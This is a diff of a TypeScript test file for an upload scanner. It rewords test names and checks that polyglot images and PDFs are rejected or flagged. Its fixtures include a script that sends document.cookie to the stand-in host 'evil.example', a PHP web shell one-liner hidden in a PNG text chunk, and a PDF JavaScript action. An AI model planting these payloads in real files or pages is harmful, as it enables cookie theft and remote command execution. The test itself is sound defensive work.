@@ -1,4 +1,4 @@
-// Files that are more than they look like, and good ones that look odd, by link to a real storage, past a real scanner.
+// Files with hidden content, and harmless ones that look odd, uploaded by link to a real storage and checked by a real scanner.
 import { DOCUMENT_FINDINGS, type DocumentFinding } from '@onboarding/contract';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { freePort } from '../../scripts/free-port.ts';
@@ -88,7 +88,7 @@ async function outcomeOf({ documentId }: Sent): Promise<string> {
   return outcome;
 }
 
-/** What each of the files comes to. */
+/** The outcome of each file. */
 async function outcomesOf(files: Record<string, [Type, Buffer]>): Promise<Record<string, string>> {
   const sent = await Promise.all(
     Object.entries(files).map(async ([what, [type, bytes]]) => [what, await send(type, bytes)] as const),
@@ -106,65 +106,59 @@ const PAGE = '<html><body><script>fetch("//evil.example/"+document.cookie)</scri
 const XMP = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>';
 const segment = (code: number, content: Buffer) =>
   joined(Buffer.from([0xff, code, (content.length + 2) >> 8, (content.length + 2) & 255]), content);
-/** With something behind the first KiB. */
+/** Places the segments after the first KiB. */
 const jpegWith = (...segments: Buffer[]) =>
   joined(jpegOf().subarray(0, 20), segment(0xe2, Buffer.alloc(2_000, 3)), ...segments, jpegOf().subarray(20));
 const pngWith = (...chunks: Buffer[]) =>
   joined(pngOf().subarray(0, 33), pngChunk('tEXt', Buffer.alloc(2_000, 0x61)), ...chunks, pngOf().subarray(33));
 
-test('good files with a byte too many, or a description, are confirmed', async () => {
+test('confirms harmless files with trailing bytes or metadata', async () => {
   const files: Record<string, [Type, Buffer]> = {
-    'a byte behind the end of a document': [PDF, joined(pdfOf('hello'), '\x1a')],
-    'a line end behind the end of a document': [PDF, joined(pdfOf('hello'), '\r\n\n')],
-    'a letter behind the end of a document': [PDF, joined(pdfOf('hello'), 'x')],
-    'junk before a document': [PDF, joined('HTTP/1.1 200 OK\r\n\r\n', pdfOf('hello'))],
-    'a document that begins at the end of its first KiB': [PDF, joined('\n'.repeat(1_019), pdfOf('hello'))],
-    'a photograph with its description in XML': [JPEG, jpegWith(segment(0xe1, Buffer.from(`xap\0${XMP}`)))],
-    'a photograph with a second one behind it': [JPEG, joined(jpegOf(), jpegOf())],
-    'a photograph with the notes of its camera behind it': [
-      JPEG,
-      joined(jpegOf(), cameraNotes({ Image_UTC_Data: '1763' })),
-    ],
-    'a picture with its description in XML': [PNG, pngWith(pngChunk('iTXt', Buffer.from(`XML\0\0\0\0\0${XMP}`)))],
+    'a byte after the end of a PDF': [PDF, joined(pdfOf('hello'), '\x1a')],
+    'line breaks after the end of a PDF': [PDF, joined(pdfOf('hello'), '\r\n\n')],
+    'a letter after the end of a PDF': [PDF, joined(pdfOf('hello'), 'x')],
+    'junk before a PDF': [PDF, joined('HTTP/1.1 200 OK\r\n\r\n', pdfOf('hello'))],
+    'a PDF that begins at the end of the first KiB': [PDF, joined('\n'.repeat(1_019), pdfOf('hello'))],
+    'a JPEG with XMP metadata': [JPEG, jpegWith(segment(0xe1, Buffer.from(`xap\0${XMP}`)))],
+    'a JPEG followed by another': [JPEG, joined(jpegOf(), jpegOf())],
+    'a JPEG followed by camera notes': [JPEG, joined(jpegOf(), cameraNotes({ Image_UTC_Data: '1763' }))],
+    'a PNG with XMP metadata': [PNG, pngWith(pngChunk('iTXt', Buffer.from(`XML\0\0\0\0\0${XMP}`)))],
   };
   expect(await outcomesOf(files)).toEqual(all(files, 'Confirmed'));
 });
 
-test('a picture that claims more pixels than anybody needs is rejected, however small its file', async () => {
+test('rejects an image that declares too many pixels, however small its file', async () => {
   const files: Record<string, [Type, Buffer]> = {
-    'a picture of 60,000 by 60,000 pixels': [PNG, pngOf(60_000, 60_000)],
-    'a photograph of 65,535 by 65,535 pixels': [JPEG, jpegOf({ width: 65_535, height: 65_535 })],
+    'a PNG of 60,000 by 60,000 pixels': [PNG, pngOf(60_000, 60_000)],
+    'a JPEG of 65,535 by 65,535 pixels': [JPEG, jpegOf({ width: 65_535, height: 65_535 })],
   };
   expect(await outcomesOf(files)).toEqual(all(files, 'Rejected TooLarge'));
 });
 
-test('a page or an archive in a picture is rejected, however far behind its beginning', async () => {
+test('rejects an image or document that contains a page, an archive or a program, however far from its beginning', async () => {
   const files: Record<string, [Type, Buffer]> = {
-    'a page in a remark of a photograph': [JPEG, jpegWith(segment(0xfe, Buffer.from(PAGE)))],
-    'a page in the scan of a photograph': [
-      JPEG,
-      joined(jpegOf().subarray(0, -2), Buffer.alloc(2_000, 7), PAGE, '\xff\xd9'),
-    ],
-    'a page behind a photograph': [JPEG, joined(jpegOf(), Buffer.alloc(2_000), PAGE, '\xff\xd9')],
-    'an archive behind a photograph': [
+    'a page in a comment of a JPEG': [JPEG, jpegWith(segment(0xfe, Buffer.from(PAGE)))],
+    'a page in the scan of a JPEG': [JPEG, joined(jpegOf().subarray(0, -2), Buffer.alloc(2_000, 7), PAGE, '\xff\xd9')],
+    'a page after a JPEG': [JPEG, joined(jpegOf(), Buffer.alloc(2_000), PAGE, '\xff\xd9')],
+    'an archive after a JPEG': [
       JPEG,
       joined(jpegOf(), zipOf('a', Buffer.from('a')), Buffer.alloc(70_000, 1), '\xff\xd9'),
     ],
-    'a program behind a photograph, and the mark of a camera': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', 'SEFT')],
-    'a program before the notes of a camera': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', cameraNotes({ a: 'b' }))],
-    'a document behind a photograph': [JPEG, joined(jpegOf(), pdfOf('hello'), '\xff\xd9')],
-    'a page in a remark of a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}`)))],
-    'a page in two-byte letters in a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from(PAGE, 'utf16le')))],
-    'a program of a server in a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from('<?php system($_GET[0]); ?>')))],
-    'a page behind a picture': [PNG, joined(pngOf(), PAGE, pngOf().subarray(-12))],
-    'a page before a document': [PDF, joined('<html><body>', pdfOf('hello'))],
-    'a page behind a document': [PDF, joined(pdfOf('hello'), PAGE)],
+    'a program after a JPEG, with the marker of camera notes': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', 'SEFT')],
+    'a program before camera notes': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', cameraNotes({ a: 'b' }))],
+    'a PDF after a JPEG': [JPEG, joined(jpegOf(), pdfOf('hello'), '\xff\xd9')],
+    'a page in a comment of a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}`)))],
+    'a page in UTF-16 in a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from(PAGE, 'utf16le')))],
+    'a PHP script in a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from('<?php system($_GET[0]); ?>')))],
+    'a page after a PNG': [PNG, joined(pngOf(), PAGE, pngOf().subarray(-12))],
+    'a page before a PDF': [PDF, joined('<html><body>', pdfOf('hello'))],
+    'a page after a PDF': [PDF, joined(pdfOf('hello'), PAGE)],
   };
   expect(await outcomesOf(files)).toEqual(all(files, 'Rejected ContentMismatch'));
 });
 
-// Escaped names are left out: this scanner takes them for an infection by themselves.
-test('a document that can do more than be read is confirmed, and analysts are told what', async () => {
+// Escaped names are omitted: this scanner reports them as an infection.
+test('confirms a document with active content, and flags what it contains for analysts only', async () => {
   const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
   const files: [DocumentFinding, Buffer][] = [
     ['JavaScript', pdfWith(`9 0 obj${script}endobj`)],
@@ -190,7 +184,7 @@ test('a document that can do more than be read is confirmed, and analysts are to
       documents: [{ documentId, findings: [files[index]?.[0]] }],
       more: false,
     });
-    // The partner is not told.
+    // Partners do not see the findings.
     const record = JSON.stringify((await call('GET', `/${customerId}`)).value);
     expect([...DOCUMENT_FINDINGS, 'findings', 'ActiveContent'].filter((word) => record.includes(word))).toEqual([]);
   }
